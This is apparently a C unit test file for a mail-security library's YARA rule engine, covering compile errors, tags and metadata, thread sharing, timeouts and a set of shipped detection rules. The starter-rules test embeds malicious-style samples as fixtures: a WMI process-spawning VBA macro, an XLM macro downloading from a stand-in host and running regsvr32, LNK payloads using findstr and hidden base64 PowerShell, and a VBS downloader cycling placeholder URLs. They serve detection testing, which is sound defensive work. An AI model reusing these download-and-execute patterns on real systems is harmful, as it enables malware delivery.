/* YARA through libyara: compile errors with file:line, matches with tags and meta, external
 * variables, directories, sharing one compiled set across threads, and the shipped rules/. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "intel/intel.h"
#include "intel/yrules.h"
#include "intel_feeds.h"
#include "testutil.h"

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct {
    int n;
    char names[2048];
    char last_tags[256], last_meta[512];
    eg_severity sev;
    bool has_sev;
} hits;

static void on_hit(void *ud, const eg_intel_yara_hit *h)
{
    hits *x = ud;
    x->n++;
    size_t o = strlen(x->names);
    snprintf(x->names + o, sizeof x->names - o, "%s%s", o ? " " : "", h->rule);
    snprintf(x->last_tags, sizeof x->last_tags, "%s", h->tags);
    snprintf(x->last_meta, sizeof x->last_meta, "%s", h->meta);
    x->sev = h->severity;
    x->has_sev = h->has_severity;
}

static char diag_text[8192];
static void on_diag(void *ud, const char *file, uint32_t line, bool error, const char *msg)
{
    size_t o = strlen(diag_text);
    snprintf(diag_text + o, sizeof diag_text - o, "%s:%u:%s:%s\n", file, line, error ? "E" : "W", msg);
}

static eg_intel *load_rules(const char *path)
{
    eg_intel *in = NULL;
    char err[512];
    diag_text[0] = 0;
    eg_status st = eg_intel_load_ex(NULL, 0, path, on_diag, NULL, &in, err, sizeof err);
    if (st != EG_OK)
        fprintf(stderr, "load %s: %s\n%s", path, err, diag_text);
    assert_int_equal(st, EG_OK);
    return in;
}

static hits scan(const eg_intel *in, const void *data, size_t len, eg_type type)
{
    hits h;
    memset(&h, 0, sizeof h);
    eg_object o;
    memset(&o, 0, sizeof o);
    o.type = type;
    o.name = (char *)"sample";
    assert_int_equal(eg_intel_yara(in, data, len, &o, 10, on_hit, &h), EG_OK);
    return h;
}

static void matches_carry_tags_and_meta(void **st)
{
    (void)st;
    char *dir = eg_test_tmpdir("yara");
    char *path = eg_fx_yara_rules(dir, "t.yar");
    eg_intel *in = load_rules(path);
    assert_int_equal(eg_intel_rules(in), 3);
    const char txt[] = "xx EG-TEST-MARKER-7f3a yy";
    hits h = scan(in, txt, sizeof txt - 1, EG_T_TEXT);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.names, "Test_Marker");
    assert_string_equal(h.last_tags, "test marker");
    assert_string_equal(h.last_meta, "description=generated test marker");
    assert_true(h.has_sev);
    assert_int_equal(h.sev, EG_SEV_CRITICAL);

    const char t2[] = "SECOND-MARKER-5521";
    h = scan(in, t2, sizeof t2 - 1, EG_T_BINARY);
    assert_string_equal(h.names, "Test_Plain_Meta");
    assert_string_equal(h.last_meta, "author=tests, version=3");
    assert_false(h.has_sev);

    /* eg_type is set per object: the same bytes match only as VBA source */
    const char vba[] = "Sub AutoOpen()\r\nEnd Sub\r\n";
    h = scan(in, vba, sizeof vba - 1, EG_T_TEXT);
    assert_int_equal(h.n, 0);
    h = scan(in, vba, sizeof vba - 1, EG_T_VBA_SOURCE);
    assert_string_equal(h.names, "Test_Only_Vba_Source");

    h = scan(in, "nothing here", 12, EG_T_TEXT);
    assert_int_equal(h.n, 0);
    eg_intel_free(in);
    free(path);
    eg_test_rmrf(dir);
    free(dir);
}

static void compile_errors_name_file_and_line(void **st)
{
    (void)st;
    char *dir = eg_test_tmpdir("yara");
    char *ok = eg_fx_yara_rules(dir, "a_ok.yar");
    char *bad = eg_fx_write(dir, "b_broken.yar", "rule Fine { condition: true }\n\nrule Broken { condition: $nope }\n");
    eg_intel *in = (eg_intel *)1;
    char err[512];
    diag_text[0] = 0;
    assert_int_equal(eg_intel_load_ex(NULL, 0, bad, on_diag, NULL, &in, err, sizeof err), EG_EFORMAT);
    assert_null(in);
    assert_non_null(strstr(err, "b_broken.yar:3: "));
    assert_non_null(strstr(diag_text, "b_broken.yar:3:E:"));
    /* a directory with one broken file is refused whole */
    assert_int_equal(eg_intel_load_ex(NULL, 0, dir, NULL, NULL, &in, err, sizeof err), EG_EFORMAT);
    assert_non_null(strstr(err, "b_broken.yar:3"));
    /* missing path, empty directory */
    assert_int_equal(eg_intel_load_ex(NULL, 0, "/nonexistent/rules.yar", NULL, NULL, &in, err, sizeof err), EG_EIO);
    char *empty = eg_test_tmpdir("yara-empty");
    assert_int_equal(eg_intel_load_ex(NULL, 0, empty, NULL, NULL, &in, err, sizeof err), EG_EFORMAT);
    assert_non_null(strstr(err, "no .yar or .yara files"));
    eg_test_rmrf(empty);
    free(empty);
    free(ok);
    free(bad);
    eg_test_rmrf(dir);
    free(dir);
}

static void directory_namespaces(void **st)
{
    (void)st;
    char *dir = eg_test_tmpdir("yara");
    char *a = eg_fx_write(dir, "one.yar", "rule Same { strings: $a = \"alpha-1\" condition: $a }\n");
    char *b = eg_fx_write(dir, "two.yara", "rule Same { strings: $a = \"beta-2\" condition: $a }\n");
    char *c = eg_fx_write(dir, "notes.txt", "this is not a rule file {\n");
    eg_intel *in = load_rules(dir);
    assert_int_equal(eg_intel_rules(in), 2);
    hits h = scan(in, "alpha-1 beta-2", 14, EG_T_TEXT);
    assert_int_equal(h.n, 2);
    eg_intel_free(in);
    free(a);
    free(b);
    free(c);
    eg_test_rmrf(dir);
    free(dir);
}

typedef struct {
    const eg_intel *in;
    int matched;
} thr;

static void *worker(void *arg)
{
    thr *t = arg;
    const char txt[] = "....EG-TEST-MARKER-7f3a....second-marker-5521....";
    for (int i = 0; i < 200; i++) {
        hits h;
        memset(&h, 0, sizeof h);
        if (eg_intel_yara(t->in, (const uint8_t *)txt, sizeof txt - 1, NULL, 10, on_hit, &h) == EG_OK && h.n == 2)
            t->matched++;
    }
    return NULL;
}

static void shared_across_threads_and_reload(void **st)
{
    (void)st;
    char *dir = eg_test_tmpdir("yara");
    char *path = eg_fx_yara_rules(dir, "t.yar");
    /* load/free repeatedly and overlapping, as a milter reloading on SIGHUP does */
    for (int i = 0; i < 5; i++) {
        eg_intel *a = load_rules(path);
        eg_intel *b = load_rules(path);
        eg_intel_free(a);
        hits h = scan(b, "EG-TEST-MARKER-7f3a", 19, EG_T_TEXT);
        assert_int_equal(h.n, 1);
        eg_intel_free(b);
    }
    eg_intel *in = load_rules(path);
    enum { N = 8 };
    pthread_t th[N];
    thr t[N];
    for (int i = 0; i < N; i++) {
        t[i].in = in;
        t[i].matched = 0;
        assert_int_equal(pthread_create(&th[i], NULL, worker, &t[i]), 0);
    }
    for (int i = 0; i < N; i++) {
        pthread_join(th[i], NULL);
        assert_int_equal(t[i].matched, 200);
    }
    eg_intel_free(in);
    free(path);
    eg_test_rmrf(dir);
    free(dir);
}

static void timeout_is_reported(void **st)
{
    (void)st;
    char *dir = eg_test_tmpdir("yara");
    char *path = eg_fx_write(dir, "slow.yar",
                             "rule Slow { condition: for all i in (0..filesize - 1) : "
                             "(for all j in (0..15) : (uint8(i) + j >= 0)) }\n");
    eg_intel *in = load_rules(path);
    size_t n = 64u << 20;
    uint8_t *big = malloc(n);
    assert_non_null(big);
    memset(big, 'A', n);
    hits h;
    memset(&h, 0, sizeof h);
    assert_int_equal(eg_intel_yara(in, big, n, NULL, 1, on_hit, &h), EG_ETIME);
    assert_int_equal(h.n, 0);
    free(big);
    eg_intel_free(in);
    free(path);
    eg_test_rmrf(dir);
    free(dir);
}

/* ---- the shipped starter rules ---------------------------------------------------------- */

static size_t lnk_sample(uint8_t *buf, size_t cap, const char *args)
{
    static const uint8_t hdr[20] = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
    memset(buf, 0, 76);
    memcpy(buf, hdr, sizeof hdr);
    size_t o = 76;
    size_t n = strlen(args);
    buf[o++] = (uint8_t)(n & 0xff);
    buf[o++] = (uint8_t)(n >> 8);
    for (size_t i = 0; i < n && o + 2 < cap; i++) {
        buf[o++] = (uint8_t)args[i];
        buf[o++] = 0;
    }
    return o;
}

static void starter_rules(void **st)
{
    (void)st;
    eg_intel *in = load_rules(EG_SOURCE_DIR "/rules");
    assert_true(eg_intel_rules(in) >= 15);

    const char vba[] = "Attribute VB_Name = \"ThisDocument\"\r\n"
                       "Sub Document_Open()\r\n"
                       "  On Error Resume Next\r\n"
                       "  s = Replace(\"wiXXnmgXXmts:WiXXn32_XXProXXcess\", \"XX\", \"\")\r\n"
                       "  Set p = GetObject(Split(s, \"#\")(0))\r\n"
                       "  p.ShowWindow = 0\r\n"
                       "  GetObject(\"winmgmts\" & \":Win32_\" & \"Process\").Create cmd, Null, p, pid\r\n"
                       "End Sub\r\n";
    hits h = scan(in, vba, sizeof vba - 1, EG_T_VBA_SOURCE);
    assert_non_null(strstr(h.names, "EG_VBA_AutoExec_Launches_Process"));
    assert_non_null(strstr(h.names, "EG_VBA_Split_WMI_Process"));
    /* the same words in a mail body (a security advisory quoting a macro) are not a macro */
    h = scan(in, vba, sizeof vba - 1, EG_T_TEXT);
    assert_null(strstr(h.names, "EG_VBA_"));

    const char xlm[] = "Macro1!A1 =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://a.example/x/\","
                       "\"..\\oxnv1.ooccxx\",0,0)\n"
                       "Macro1!A2 =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"
                       "Macro1!A3 =RETURN()\n";
    h = scan(in, xlm, sizeof xlm - 1, EG_T_XLM);
    assert_non_null(strstr(h.names, "EG_XLM_Download_Then_Register"));
    assert_non_null(strstr(h.names, "EG_XLM_Ooccxx_Chain"));

    uint8_t lnk[1024];
    size_t ln = lnk_sample(lnk, sizeof lnk,
                           "/v:on /c findstr \"glKmfOKnQ.*\" \"Invoice.lnk\" > \"%tmp%\\YlScZ.vbs\" & \"%tmp%\\YlScZ.vbs\"");
    const char cmd_w[] = "c\0m\0d\0.\0e\0x\0e\0";
    memcpy(lnk + ln, cmd_w, sizeof cmd_w - 1);
    ln += sizeof cmd_w - 1;
    h = scan(in, lnk, ln, EG_T_LNK);
    assert_non_null(strstr(h.names, "EG_LNK_Findstr_Appended_Script"));

    ln = lnk_sample(lnk, sizeof lnk,
                    "powershell.exe -w hidden -c \"iex ([System.Text.Encoding]::ASCII.GetString("
                    "[System.Convert]::FromBase64String('aQBlAHgA')))\"");
    h = scan(in, lnk, ln, EG_T_LNK);
    assert_non_null(strstr(h.names, "EG_LNK_PowerShell_Hidden_Download"));

    const char vbs[] = "On Error Resume Next\r\n"
                       "u = Array(\"http://one.example/a/\", \"http://two.example/b/\", \"https://three.example/c/\", "
                       "\"http://198.51.100.4:8080/d/\")\r\n"
                       "For Each x In u\r\n"
                       "  Set h = CreateObject(\"MSXML2.XMLHTTP\") : h.Open \"GET\", x, False : h.Send\r\n"
                       "  CreateObject(\"WScript.Shell\").Run \"regsvr32 /s C:\\ProgramData\\abcd.dll\"\r\n"
                       "Next\r\n";
    h = scan(in, vbs, sizeof vbs - 1, EG_T_SCRIPT);
    assert_non_null(strstr(h.names, "EG_Script_Download_And_Register"));
    assert_non_null(strstr(h.names, "EG_Script_Url_Rotation"));
    assert_non_null(strstr(h.names, "EG_Script_Profile_Dll_Registration"));

    /* a newsletter with many links and some script is not a downloader */
    const char html[] = "<html><script>for (var i=0;i<3;i++){try { x(); } catch(e){}}</script>"
                        "<a href=\"http://a.example/1\">1</a><a href=\"http://b.example/2\">2</a>"
                        "<a href=\"http://c.example/3\">3</a><a href=\"http://d.example/4\">4</a></html>";
    h = scan(in, html, sizeof html - 1, EG_T_HTML);
    assert_int_equal(h.n, 0);
    h = scan(in, html, sizeof html - 1, EG_T_SCRIPT);
    assert_non_null(strstr(h.names, "EG_Script_Url_Rotation"));

    /* ordinary business content must not match anything */
    const char mail[] = "お世話になっております。\r\n請求書を添付いたしますので、ご確認ください。\r\n"
                        "http://www.example.co.jp/\r\n";
    h = scan(in, mail, sizeof mail - 1, EG_T_TEXT);
    assert_int_equal(h.n, 0);
    const char okvba[] = "Sub Format_Table()\r\n  Range(\"A1\").Value = \"合計\"\r\n  Shell_Notify = 1\r\nEnd Sub\r\n";
    h = scan(in, okvba, sizeof okvba - 1, EG_T_VBA_SOURCE);
    assert_int_equal(h.n, 0);
    const char okps[] = "Get-ChildItem $env:TEMP | Remove-Item -WhatIf\r\n";
    h = scan(in, okps, sizeof okps - 1, EG_T_SCRIPT);
    assert_int_equal(h.n, 0);
    eg_intel_free(in);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(matches_carry_tags_and_meta),
        cmocka_unit_test(compile_errors_name_file_and_line),
        cmocka_unit_test(directory_namespaces),
        cmocka_unit_test(shared_across_threads_and_reload),
        cmocka_unit_test(timeout_is_reported),
        cmocka_unit_test(starter_rules),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
